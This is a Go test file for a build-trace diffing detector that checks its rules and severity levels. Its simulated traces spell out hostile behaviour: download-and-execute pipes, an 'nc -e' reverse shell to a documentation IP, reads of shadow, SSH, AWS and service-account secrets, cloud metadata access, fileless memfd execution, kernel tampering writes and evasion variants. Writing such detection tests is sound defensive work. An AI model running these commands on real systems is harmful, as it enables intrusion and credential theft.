package diff_test

import (
	"strings"
	"testing"

	"github.com/behavediff/behavediff/baseline"
	"github.com/behavediff/behavediff/baseline/baselinetest"
	"github.com/behavediff/behavediff/diff"
	"github.com/behavediff/behavediff/store"
)

// findRule returns the finding rated by rule id whose subject contains sub.
func findRule(fs []diff.Finding, id, sub string) (diff.Finding, bool) {
	for _, f := range fs {
		if f.Rule == id && strings.Contains(f.Subject, sub) {
			return f, true
		}
	}
	return diff.Finding{}, false
}

// TestRows drives every row added for the peer rule sets with a trace of
// the benign build plus one behaviour, and checks the rule and level.
func TestRows(t *testing.T) {
	const py, sh = 1, 0
	cases := []struct {
		name  string
		vary  func(b *baselinetest.Builder)
		rule  string
		sub   string
		level diff.Level
	}{
		{"sudoers read", func(b *baselinetest.Builder) { b.Read(py, "/etc/sudoers") }, "BD-SENSITIVE-READ", "/etc/sudoers", diff.High},
		{"sudoers.d read", func(b *baselinetest.Builder) {
			b.Open(py, "/etc/sudoers.d/90-cloud", baselinetest.ORdonly, baselinetest.EACCES)
		}, "BD-SENSITIVE-READ", "/etc/sudoers.d/90-cloud", diff.High},
		{"symlink in the workspace to /etc/shadow", func(b *baselinetest.Builder) {
			b.File2(sh, store.FileSymlink, "/etc/shadow", b.T.Run.Workspace+"/s", 0)
		}, "BD-LINK-SENSITIVE", "$WORKSPACE/s", diff.Critical},
		{"relative symlink climbing to ~/.ssh", func(b *baselinetest.Builder) {
			b.File2(sh, store.FileSymlink, "../../../../root/.ssh/id_ed25519", b.T.Run.Workspace+"/k", 0)
		}, "BD-LINK-SENSITIVE", "$WORKSPACE/k", diff.Critical},
		{"hard link to a persistence file", func(b *baselinetest.Builder) {
			b.File2(sh, store.FileLink, "/etc/cron.d/job", b.T.Run.Workspace+"/job", baselinetest.EPERM)
		}, "BD-LINK-SENSITIVE", "$WORKSPACE/job", diff.Critical},
		{"packet socket", func(b *baselinetest.Builder) {
			b.Net(py, store.NetSocket, 17, 3, "", 0, baselinetest.EPERM)
		}, "BD-PACKET-SOCKET", "packet raw", diff.High},
		{"raw IPv4 socket", func(b *baselinetest.Builder) {
			b.Net(py, store.NetSocket, 2, 3, "", 0, baselinetest.EPERM)
		}, "BD-PACKET-SOCKET", "inet raw", diff.High},
		{"netlink socket", func(b *baselinetest.Builder) {
			b.Net(py, store.NetSocket, 16, 3, "", 0, 5)
		}, "BD-SOCKET-NETLINK", "netlink raw", diff.Low},
		{"vsock", func(b *baselinetest.Builder) {
			b.Net(py, store.NetSocket, 40, 1, "", 0, 5)
		}, "BD-SOCKET", "af40 stream", diff.Medium},
		{"other process environ", func(b *baselinetest.Builder) { b.Read(py, "/proc/1/environ") }, "BD-RECON", "/proc/$PID/environ", diff.High},
		{"other process mem", func(b *baselinetest.Builder) { b.Read(py, "/proc/77/mem") }, "BD-RECON", "/proc/$PID/mem", diff.High},
		{"kallsyms", func(b *baselinetest.Builder) { b.Read(py, "/proc/kallsyms") }, "BD-RECON", "/proc/kallsyms", diff.High},
		{"sched_debug", func(b *baselinetest.Builder) { b.Read(py, "/proc/sched_debug") }, "BD-RECON", "/proc/sched_debug", diff.High},
		{"debugfs", func(b *baselinetest.Builder) {
			b.Open(py, "/sys/kernel/debug/tracing/trace", baselinetest.ORdonly, baselinetest.EACCES)
		}, "BD-RECON", "/sys/kernel/debug/tracing/trace", diff.High},
		{"core_pattern write", func(b *baselinetest.Builder) {
			b.Open(sh, "/proc/sys/kernel/core_pattern", baselinetest.OWronly|baselinetest.OTrunc, baselinetest.EROFS)
		}, "BD-KERNEL-TAMPER", "/proc/sys/kernel/core_pattern", diff.Critical},
		{"release_agent write", func(b *baselinetest.Builder) {
			b.Open(sh, "/sys/fs/cgroup/x/release_agent", baselinetest.OWronly, baselinetest.EROFS)
		}, "BD-KERNEL-TAMPER", "release_agent", diff.Critical},
		{"other process memory write", func(b *baselinetest.Builder) {
			b.Open(py, "/proc/1/mem", baselinetest.ORdwr, baselinetest.EACCES)
		}, "BD-KERNEL-TAMPER", "/proc/$PID/mem", diff.Critical},
		{"raw disk", func(b *baselinetest.Builder) {
			b.Open(py, "/dev/sda", baselinetest.ORdonly, baselinetest.EACCES)
		}, "BD-RAW-DEVICE", "/dev/sda", diff.Critical},
		{"memfd exec", func(b *baselinetest.Builder) {
			b.File(py, store.FileMemfd, "memfd:x", 0, 3)
			b.Exec(py, "/dev/fd/3", "x")
		}, "BD-FILELESS-EXEC", "/dev/fd/*", diff.Critical},
		{"proc self fd exec", func(b *baselinetest.Builder) { b.Exec(py, "/proc/self/fd/4", "x") }, "BD-FILELESS-EXEC", "/proc/self/fd/*", diff.Critical},
		{"memfd_create alone", func(b *baselinetest.Builder) { b.File(py, store.FileMemfd, "memfd:jit", 0, 3) }, "BD-MEMFD", "memfd:jit", diff.Medium},
		{"curl piped into python3 -", func(b *baselinetest.Builder) {
			b.Exec(sh, "/usr/bin/curl", "curl", "-fsSL", "https://203.0.113.7/x.py")
			b.Exec(sh, "/usr/bin/python3", "python3", "-")
		}, "BD-PIPE-EXEC", "python3 -", diff.Critical},
		{"base64 -d piped into sh", func(b *baselinetest.Builder) {
			b.Exec(sh, "/usr/bin/base64", "base64", "-d")
			b.Exec(sh, "/bin/sh", "sh")
		}, "BD-PIPE-EXEC", "/bin/sh [sh]", diff.Critical},
		{"sh -c with fetched text", func(b *baselinetest.Builder) {
			b.Exec(sh, "/usr/bin/wget", "wget", "-qO-", "http://203.0.113.7/x")
			b.Exec(sh, "/bin/bash", "bash", "-c", "echo pwned")
		}, "BD-PIPE-EXEC", "/bin/bash", diff.Critical},
		{"nc -e", func(b *baselinetest.Builder) {
			b.Exec(sh, "/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.7", "4444")
		}, "BD-REVERSE-SHELL", "nc -e", diff.Critical},
		{"metadata IPv4", func(b *baselinetest.Builder) {
			b.Connect(py, "169.254.169.254", 80, baselinetest.ENETUNREACH)
		}, "BD-METADATA", "169.254.169.254:80", diff.Critical},
		{"metadata IPv6", func(b *baselinetest.Builder) {
			b.Connect(py, "fd00:ec2::254", 80, baselinetest.ENETUNREACH)
		}, "BD-METADATA", "[fd00:ec2::254]:80", diff.Critical},
		{"metadata name", func(b *baselinetest.Builder) { b.DNS(py, "metadata.google.internal", 1) }, "BD-METADATA", "metadata.google.internal", diff.Critical},
		{"grep -r ~/.aws", func(b *baselinetest.Builder) {
			b.Open(sh, "/root/.aws", baselinetest.ORdonly|0x10000, baselinetest.ENOENT)
		}, "BD-SECRET-READ", "$HOME/.aws", diff.Critical},
		{"service-account token", func(b *baselinetest.Builder) {
			b.Open(py, "/var/run/secrets/kubernetes.io/serviceaccount/token", baselinetest.ORdonly, baselinetest.ENOENT)
		}, "BD-SECRET-READ", "serviceaccount/token", diff.Critical},
		{"miner pool port", func(b *baselinetest.Builder) {
			b.Connect(py, "198.51.100.4", 3333, baselinetest.ENETUNREACH)
		}, "BD-MINER-PORT", "198.51.100.4:3333", diff.Critical},
		{"key search", func(b *baselinetest.Builder) {
			b.Exec(sh, "/usr/bin/find", "find", "/", "-name", "id_rsa")
		}, "BD-KEY-SEARCH", "id_rsa", diff.High},
		{"LD_PRELOAD on an approved program", func(b *baselinetest.Builder) {
			b.Env(py, "PATH=/usr/bin:/bin", "LD_PRELOAD=/tmp/x.so")
		}, "BD-ENV-INJECT", "/usr/bin/python3 LD_PRELOAD", diff.Critical},
		{"GLIBC_TUNABLES", func(b *baselinetest.Builder) {
			b.Env(sh, "GLIBC_TUNABLES=glibc.tune.x=1")
		}, "BD-ENV-INJECT", "/bin/sh GLIBC_TUNABLES", diff.Critical},
		{"PYTHONPATH", func(b *baselinetest.Builder) { b.Env(py, "PYTHONPATH=/tmp/evil") }, "BD-ENV-RUNTIME", "PYTHONPATH", diff.High},
		{"NODE_OPTIONS on a new program", func(b *baselinetest.Builder) {
			n := b.Exec(sh, "/usr/bin/node", "node", "x.js")
			b.Env(n, "NODE_OPTIONS=--require /tmp/x.js")
		}, "BD-ENV-RUNTIME", "/usr/bin/node NODE_OPTIONS", diff.High},
		{"proxy", func(b *baselinetest.Builder) { b.Env(py, "HTTPS_PROXY=http://203.0.113.7:3128") }, "BD-ENV-PROXY", "HTTPS_PROXY", diff.Medium},
		{"other variable", func(b *baselinetest.Builder) { b.Env(py, "COLUMNS=80") }, "BD-ENV-OTHER", "COLUMNS", diff.None},
		{"nscd socket", func(b *baselinetest.Builder) {
			b.Net(py, store.NetConnect, 1, 1, "/var/run/nscd/socket", 0, baselinetest.ENOENT)
		}, "BD-UNIX-RESOLVER", "/var/run/nscd/socket", diff.None},
		{"other unix socket", func(b *baselinetest.Builder) {
			b.Net(py, store.NetConnect, 1, 1, "/run/dbus/system_bus_socket", 0, baselinetest.ENOENT)
		}, "BD-UNIX-SOCKET", "/run/dbus/system_bus_socket", diff.Medium},
		{"new coreutils program", func(b *baselinetest.Builder) { b.Exec(sh, "/usr/bin/cut", "cut", "-d,", "-f1") }, "BD-EXEC-TOOL", "/usr/bin/cut", diff.Low},
		{"tool name in the workspace", func(b *baselinetest.Builder) {
			b.Exec(sh, b.T.Run.Workspace+"/bin/cut", "cut")
		}, "BD-EXEC", "$WORKSPACE/bin/cut", diff.High},
		{"git", func(b *baselinetest.Builder) { b.Exec(sh, "/usr/bin/git", "git", "pull") }, "BD-EXEC", "/usr/bin/git", diff.High},
		{"sudo", func(b *baselinetest.Builder) { b.Exec(sh, "/usr/bin/sudo", "sudo", "id") }, "BD-EXEC", "/usr/bin/sudo", diff.High},
		{"gcc", func(b *baselinetest.Builder) { b.Exec(sh, "/usr/bin/gcc", "gcc", "x.c") }, "BD-EXEC", "/usr/bin/gcc", diff.High},
		{"unknown binary", func(b *baselinetest.Builder) { b.Exec(sh, "/usr/local/bin/xmrig", "xmrig") }, "BD-EXEC", "/usr/local/bin/xmrig", diff.High},
		{"curl", func(b *baselinetest.Builder) { b.Exec(sh, "/usr/bin/curl", "curl", "-o", "x", "https://x") }, "BD-EXEC-DOWNLOADER", "/usr/bin/curl", diff.High},
	}
	base := approved(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			b := baselinetest.Benign(7)
			tc.vary(b)
			fs := diff.Compare(base, from(t, b.T), diff.Context{RunID: 9})
			f, ok := findRule(fs, tc.rule, tc.sub)
			if !ok {
				t.Fatalf("no %s finding with %q; got:\n%s", tc.rule, tc.sub, dump(fs))
			}
			if f.Level != tc.level {
				t.Errorf("%s %s: level %s, want %s (%s)", tc.rule, f.Subject, f.Level, tc.level, f.Reason)
			}
			if f.Query == "" || f.Process == "" {
				t.Errorf("%s: no query or process: %+v", tc.rule, f)
			}
			if diff.Worst(fs) != tc.level {
				t.Errorf("worst level %s, want %s:\n%s", diff.Worst(fs), tc.level, dump(fs))
			}
		})
	}
}

// curl put in front of an approved "python3 -" (a heredoc in the baseline)
// is still download-and-execute, reported on curl.
func TestPipeIntoApprovedReader(t *testing.T) {
	const sh = 0
	bb := baselinetest.Benign(1)
	bb.Exec(sh, "/usr/bin/python3", "python3", "-")
	data, err := from(t, bb.T).Marshal()
	if err != nil {
		t.Fatal(err)
	}
	base, err := baseline.Parse(data, "build.yaml")
	if err != nil {
		t.Fatal(err)
	}
	b := baselinetest.Benign(5)
	b.Exec(sh, "/usr/bin/python3", "python3", "-")
	b.Exec(sh, "/usr/bin/curl", "curl", "-s", "https://203.0.113.7/x.py")
	fs := diff.Compare(base, from(t, b.T), diff.Context{RunID: 3})
	if f, ok := findRule(fs, "BD-PIPE-EXEC", "/usr/bin/curl"); !ok || f.Level != diff.Critical {
		t.Fatalf("no critical BD-PIPE-EXEC on curl:\n%s", dump(fs))
	}
	// curl writing to a file beside the same reader is only a new downloader.
	b = baselinetest.Benign(5)
	b.Exec(sh, "/usr/bin/python3", "python3", "-")
	b.Exec(sh, "/usr/bin/curl", "curl", "-sSLo", "x.tgz", "https://203.0.113.7/x.tgz")
	fs = diff.Compare(base, from(t, b.T), diff.Context{RunID: 3})
	if diff.Worst(fs) != diff.High {
		t.Fatalf("curl -o beside python3 -: want high:\n%s", dump(fs))
	}
}

// Ways around the rows, each of which must still be caught (or, for the
// last ones, must not turn harmless links critical).
func TestRowsAdversarial(t *testing.T) {
	const py, sh = 1, 0
	cases := []struct {
		name  string
		vary  func(b *baselinetest.Builder)
		rule  string
		level diff.Level
	}{
		{"symlink to /etc, then read through it", func(b *baselinetest.Builder) {
			b.File2(sh, store.FileSymlink, "/etc", b.T.Run.Workspace+"/e", 0)
			b.Read(sh, b.T.Run.Workspace+"/e/shadow")
		}, "BD-LINK-SENSITIVE", diff.Critical},
		{"symlink to /", func(b *baselinetest.Builder) {
			b.File2(sh, store.FileSymlink, "/", b.T.Run.Workspace+"/r", 0)
		}, "BD-LINK-SENSITIVE", diff.Critical},
		{"symlink to the home directory", func(b *baselinetest.Builder) {
			b.File2(sh, store.FileSymlink, "/root", "/tmp/h", 0)
		}, "BD-LINK-SENSITIVE", diff.Critical},
		{"IPv4-mapped metadata address", func(b *baselinetest.Builder) {
			b.Connect(py, "::ffff:169.254.169.254", 80, baselinetest.ENETUNREACH)
		}, "BD-METADATA", diff.Critical},
		{"code from /dev/stdin", func(b *baselinetest.Builder) {
			b.Exec(sh, "/usr/bin/base64", "base64", "--decode")
			b.Exec(sh, "/usr/bin/python3", "python3", "/dev/stdin")
		}, "BD-PIPE-EXEC", diff.Critical},
		{"shell flags before -c", func(b *baselinetest.Builder) {
			b.Exec(sh, "/usr/bin/curl", "curl", "-fsSL", "https://203.0.113.7/i")
			b.Exec(sh, "/bin/bash", "bash", "-ec", "true")
		}, "BD-PIPE-EXEC", diff.Critical},
		{"text tool copied to /tmp", func(b *baselinetest.Builder) {
			b.Exec(sh, "/tmp/sort", "sort")
		}, "BD-EXEC", diff.High}, // not a tool outside the tool directories
		{"many secret reads collapse but stay critical", func(b *baselinetest.Builder) {
			for i := 0; i < 8; i++ {
				b.Open(py, "/root/.ssh/key"+string(rune('a'+i)), baselinetest.ORdonly, baselinetest.EACCES)
			}
		}, "BD-SECRET-READ", diff.Critical},
	}
	base := approved(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			b := baselinetest.Benign(11)
			tc.vary(b)
			fs := diff.Compare(base, from(t, b.T), diff.Context{RunID: 2})
			f, ok := findRule(fs, tc.rule, "")
			if !ok || f.Level != tc.level {
				t.Fatalf("want %s %s:\n%s", tc.rule, tc.level, dump(fs))
			}
		})
	}
	// Harmless links stay harmless: within the workspace, to a parent
	// directory of the link, and node_modules/.bin style relative links.
	for _, l := range [][2]string{{"..", "/build/latest"}, {"../lib/cli.js", "/node_modules/.bin/cli"}, {"out/app", "/current"}} {
		b := baselinetest.Benign(11)
		b.File2(sh, store.FileSymlink, l[0], b.T.Run.Workspace+l[1], 0)
		fs := diff.Compare(base, from(t, b.T), diff.Context{RunID: 2})
		if w := diff.Worst(fs); w > diff.None {
			t.Errorf("symlink %s -> %s: worst %s:\n%s", l[1], l[0], w, dump(fs))
		}
	}
}

// A program that no longer runs is one removal, not one per variable.
func TestRemovedProgramEnvIsNotRepeated(t *testing.T) {
	bb := baselinetest.Benign(1)
	c := bb.Exec(0, "/usr/bin/cat", "cat", "x")
	bb.Env(c, "PATH=/bin", "HOME=/root", "LANG=C")
	data, err := from(t, bb.T).Marshal()
	if err != nil {
		t.Fatal(err)
	}
	base, err := baseline.Parse(data, "build.yaml")
	if err != nil {
		t.Fatal(err)
	}
	fs := diff.Compare(base, from(t, baselinetest.Benign(2).T), diff.Context{})
	for _, f := range fs {
		if f.Section == "env" {
			t.Errorf("env finding for a program that is gone: %+v", f)
		}
	}
	if len(fs) == 0 {
		t.Fatal("the removed program is not reported")
	}
	// A program still running without a variable it had: one removal.
	b := baselinetest.Benign(2)
	c = b.Exec(0, "/usr/bin/cat", "cat", "x")
	b.Env(c, "PATH=/bin", "HOME=/root")
	fs = diff.Compare(base, from(t, b.T), diff.Context{})
	if f, ok := findRule(fs, diff.RemovedRule, "/usr/bin/cat LANG"); !ok || f.Level != diff.Low || len(fs) != 1 {
		t.Errorf("want one low removal of /usr/bin/cat LANG:\n%s", dump(fs))
	}
}

// Shapes that are not code fed by a download: a script file, a module, a
// downloader writing to a file, an encoder.
func TestPipeExecNegatives(t *testing.T) {
	const sh = 0
	cases := [][2][]string{
		{{"/usr/bin/curl", "curl", "-s", "https://x"}, {"/usr/bin/python3", "python3", "-m", "pytest"}},
		{{"/usr/bin/curl", "curl", "-s", "https://x"}, {"/usr/bin/node", "node", "-r", "ts-node/register", "app.ts"}},
		{{"/usr/bin/curl", "curl", "-sSfLo", "out.tgz", "https://x"}, {"/bin/sh", "sh"}},
		{{"/usr/bin/wget", "wget", "-q", "https://x"}, {"/bin/bash", "bash", "-c", "make"}},
		{{"/usr/bin/base64", "base64", "-w0"}, {"/bin/sh", "sh", "-s"}},
		{{"/usr/bin/curl", "curl", "-s", "https://x"}, {"/bin/sh", "sh", "build.sh"}},
	}
	base := approved(t)
	for _, c := range cases {
		b := baselinetest.Benign(13)
		b.Exec(sh, c[0][0], c[0][1:]...)
		b.Exec(sh, c[1][0], c[1][1:]...)
		fs := diff.Compare(base, from(t, b.T), diff.Context{RunID: 2})
		if f, ok := findRule(fs, "BD-PIPE-EXEC", ""); ok {
			t.Errorf("%v beside %v: %+v", c[0][1:], c[1][1:], f)
		}
	}
}
